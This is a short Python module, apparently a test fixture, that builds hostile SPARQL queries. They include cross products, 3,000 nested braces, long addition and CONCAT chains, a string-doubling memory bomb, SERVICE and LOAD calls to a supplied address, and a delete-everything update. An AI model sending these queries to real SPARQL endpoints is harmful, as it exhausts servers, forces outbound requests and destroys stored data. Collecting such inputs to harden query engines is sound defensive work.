"""Queries made to hurt: each ends the process that evaluates it, uses up its time or memory, or makes it call out."""

CROSS = "SELECT (COUNT(*) AS ?c) { ?a ?b ?c1 . ?d ?e ?f . ?g ?h ?i }"
BRACES = "SELECT * " + "{" * 3000 + "}" * 3000
ADDITIONS = "SELECT (" + "+".join(["1"] * 7000) + " AS ?sum) {}"
CONCATS = "SELECT (" + "CONCAT(" * 1000 + '"a"' + ")" * 1000 + " AS ?text) {}"


def memory(doublings: int = 40) -> str:
    """A text that doubles at every step."""
    steps = "\n".join(f"BIND(CONCAT(?t{n}, ?t{n}) AS ?t{n + 1})" for n in range(doublings))
    return f'SELECT (STRLEN(?t{doublings}) AS ?size) {{ BIND("samverkan" AS ?t0)\n{steps} }}'


def service(address: str) -> str:
    """A call to another server."""
    return f"SELECT * {{ SERVICE <{address}> {{ ?s ?p ?o }} }}"


def everything(address: str) -> dict[str, str]:
    """All of them by name; `address` is where SERVICE and LOAD would call."""
    return {
        "a cross product of three": CROSS,
        "3,000 nested braces": BRACES,
        "a 14 KB chain of additions": ADDITIONS,
        "nested calls": CONCATS,
        "a memory bomb": memory(),
        "a SERVICE call": service(address),
        "a silent SERVICE call": service(address).replace("SERVICE", "SERVICE SILENT"),
        "LOAD": f"LOAD <{address}>",
        "an update": "DELETE WHERE { ?s ?p ?o }",
        "ordering a cross product": "SELECT * { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i } ORDER BY ?c ?f ?i",
    }
